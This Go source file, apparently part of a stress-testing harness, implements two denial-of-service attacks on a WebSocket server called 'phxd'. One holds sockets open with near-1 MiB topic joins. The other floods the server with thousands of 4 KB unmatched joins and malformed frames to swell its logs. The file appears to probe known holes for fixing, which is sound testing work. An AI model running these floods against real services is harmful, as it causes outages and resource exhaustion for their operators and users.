package attack

import (
	"context"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gobwas/ws"
)

// readReplies reads c until it fails, counting reply statuses and close
// codes into rec; n counts the replies.
func readReplies(c *wsConn, rec *recorder, n *atomic.Int64) {
	for {
		f, err := c.readFrame()
		if err != nil {
			rec.end(endOf(err))
			return
		}
		switch {
		case f.op == ws.OpClose:
			rec.closeCode(closeCode(f.payload))
			_, _ = c.Write(appendFrame(nil, ws.OpClose, f.payload[:min(2, len(f.payload))]))
			rec.end("server_close")
			return
		case f.op.IsData() && f.payload == nil:
			if k := f.tailStatus(); k != "large" { // a reply
				rec.reply(k)
				n.Add(1)
			}
		default:
			if m, ok := f.message(); ok && m.Event == "" {
				rec.reply(replyKey(m))
				n.Add(1)
			}
		}
	}
}

// TopicSize is the topic length BigTopics uses: a join frame just under
// phxd's default 1 MiB frame limit.
const TopicSize = 1<<20 - 128

// BigTopics (hole 4) joins topics of TopicSize bytes, 100 per socket on 5
// sockets (Count: joins per socket), each join sent when the previous one
// is answered (so the socket is never a slow consumer), and holds the
// sockets for the rest of a 10 s round before starting over.
func BigTopics(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("topics")
	per := o.count(100)
	var wg sync.WaitGroup
	for i := range o.sockets(5) {
		wg.Go(func() {
			b := backoff{min: 100 * time.Millisecond, max: 5 * time.Second}
			for ctx.Err() == nil {
				start := time.Now()
				b.wait(ctx, start, bigTopicsOnce(ctx, t, rec, i, per))
			}
		})
	}
	wg.Wait()
	return rec.result()
}

// bigTopicsOnce is one socket's life; it reports whether the socket opened.
func bigTopicsOnce(ctx context.Context, t Target, rec *recorder, i int, per int64) bool {
	life, cancel := context.WithTimeout(ctx, round)
	defer cancel()
	c, status, err := dialWS(life, t, i, upgrade{Query: "vsn=2.0.0&token=user:soak_topic" + strconv.Itoa(i)}, rec)
	if err != nil || c == nil {
		if err == nil {
			rec.http("upgrade", status)
		}
		return false
	}
	rec.http("upgrade", status)
	defer c.Close()
	stop := closeOnDone(life, c)
	defer stop()
	var replies atomic.Int64
	done := make(chan struct{})
	go func() { defer close(done); readReplies(c, rec, &replies) }()
	pad := strings.Repeat("t", TopicSize)
	for j := range per {
		ref := strconv.FormatInt(j+1, 10)
		topic := "room:" + strconv.Itoa(i) + "_" + ref + "_" + pad
		b := pushFrame(ref, ref, topic[:TopicSize], "phx_join", "{}")
		if _, err := c.Write(b); err != nil {
			break
		}
		rec.wrote(len(b))
		for replies.Load() <= j && life.Err() == nil {
			select {
			case <-done:
				return true
			case <-time.After(time.Millisecond):
			}
		}
	}
	select {
	case <-done: // the server closed the socket
	case <-life.Done():
		_ = c.Close()
		<-done
	}
	return true
}

// BadFrames (hole 9) sends what phxd logs a warning for, as fast as it
// answers: on 4 sockets, joins of unmatched topics 4 KB long (each answered
// with an error reply and, unfixed, logged with the whole topic); on one
// more, connect after connect (at most 50 a second), a 4 KB frame that is
// not JSON (closed 1007).
// Default budget 1M frames. The caller measures phxd's log growth.
func BadFrames(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("badframes")
	budget := o.count(1_000_000)
	var sent atomic.Int64
	var wg sync.WaitGroup
	for i := range o.sockets(4) {
		wg.Go(func() {
			b := backoff{min: 100 * time.Millisecond, max: 5 * time.Second}
			for ctx.Err() == nil && sent.Load() < budget {
				start := time.Now()
				b.wait(ctx, start, unmatchedOnce(ctx, t, rec, i, budget, &sent))
			}
		})
	}
	wg.Go(func() {
		junk := appendFrame(nil, ws.OpText, []byte("[not json "+strings.Repeat("j", 4096)))
		tick := time.NewTicker(20 * time.Millisecond)
		defer tick.Stop()
		for ctx.Err() == nil && sent.Load() < budget {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
			c, status, err := dialWS(ctx, t, 250, upgrade{Query: "vsn=2.0.0&token=user:soak_junk"}, rec)
			if err != nil || c == nil {
				sleepCtx(ctx, 100*time.Millisecond)
				continue
			}
			rec.http("upgrade", status)
			stop := closeOnDone(ctx, c)
			if _, err := c.Write(junk); err == nil {
				rec.wrote(len(junk))
				sent.Add(1)
			}
			code, end := c.drain(2*time.Second, 1<<20)
			if code != 0 {
				rec.closeCode(code)
			}
			stop()
			rec.end(end)
			_ = c.Close()
		}
	})
	wg.Wait()
	return rec.result()
}

// unmatchedOnce is one socket's life; it reports whether the socket opened.
func unmatchedOnce(ctx context.Context, t Target, rec *recorder, i int, budget int64, sent *atomic.Int64) bool {
	life, cancel := context.WithTimeout(ctx, round)
	defer cancel()
	c, status, err := dialWS(life, t, i, upgrade{Query: "vsn=2.0.0&token=user:soak_bad" + strconv.Itoa(i)}, rec)
	if err != nil || c == nil {
		return false
	}
	rec.http("upgrade", status)
	defer c.Close()
	stop := closeOnDone(life, c)
	defer stop()
	var replies atomic.Int64
	done := make(chan struct{})
	go func() { defer close(done); readReplies(c, rec, &replies) }()
	pad := strings.Repeat("u", 4096)
	var written int64
	for k := 0; life.Err() == nil && sent.Load() < budget; k++ {
		// stay at most 256 joins ahead of the replies: a log flood, not a
		// slow-consumer test
		for written-replies.Load() > 256 && life.Err() == nil {
			select {
			case <-done:
				return true
			case <-time.After(time.Millisecond):
			}
		}
		ref := strconv.Itoa(k + 1)
		b := pushFrame(ref, ref, "nope:"+ref+pad, "phx_join", "{}")
		if _, err := c.Write(b); err != nil {
			break
		}
		written++
		sent.Add(1)
		rec.wrote(len(b))
	}
	_ = c.Close()
	<-done
	return true
}

// sleepCtx waits d or until ctx ends.
func sleepCtx(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
